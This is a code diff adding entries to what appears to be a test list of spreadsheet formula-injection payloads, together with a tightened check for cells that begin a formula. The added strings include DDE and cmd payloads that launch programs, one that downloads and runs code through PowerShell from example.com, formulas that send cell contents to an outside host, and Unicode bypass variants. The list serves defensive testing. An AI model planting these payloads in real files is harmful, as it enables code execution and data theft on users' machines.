@@ -30,11 +30,40 @@ export const FORMULA_PAYLOADS: readonly string[] = [
   '-',
   '+',
   '@amy',
+  "=cmd|'/C powershell IEX(wget example.com/a)'!A0",
+  "@SUM(1+9)*cmd|' /C calc'!A0",
+  "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''",
+  "=rundll32|'URL.dll,OpenURL calc.exe'!A",
+  '=DDE("cmd";"/C calc";"x")',
+  "=2+5+cmd|'/C calc'!A0",
+  '=IFERROR(1/0;WEBSERVICE("https://example.com/"&A1))',
+  '=IMPORTDATA("https://example.com")',
+  '{=1+1}',
+  '"=1+1',
+  '""=1+1',
+  ';=1+1',
+  ',=1+1',
+  '|=1+1',
+  '\\t=1+1',
+  '%0A=1+1',
+  'x\n=1+1',
+  'x\r\n=1+1;=2+2',
+  'x"\n=1+1',
+  '\u000b=1+1',
+  '\u2028=1+1',
+  '\u200e=1+1',
+  '\u202e=1+1',
+  '\u00ad=1+1',
+  '\u180e+1+1',
+  '﹦1+1',
+  '−1+1',
+  '--11-28',
+  '-0912345678',
   '+886912345678',
 ]
 
 /** What a spreadsheet may take for a formula: its first character, or the first one after blanks and invisible ones. */
 export function startsFormula(cell: string): boolean {
-  const first = cell.replace(/^[\s\u200b\u2060\ufeff]+/u, '')
+  const first = cell.replace(/^[\s\p{Cc}\p{Cf}]+/u, '')
   return /^[\t\r\n]/u.test(cell) || /^[=+\-@＝＋－＠﹢﹣﹦﹫]/u.test(first)
 }
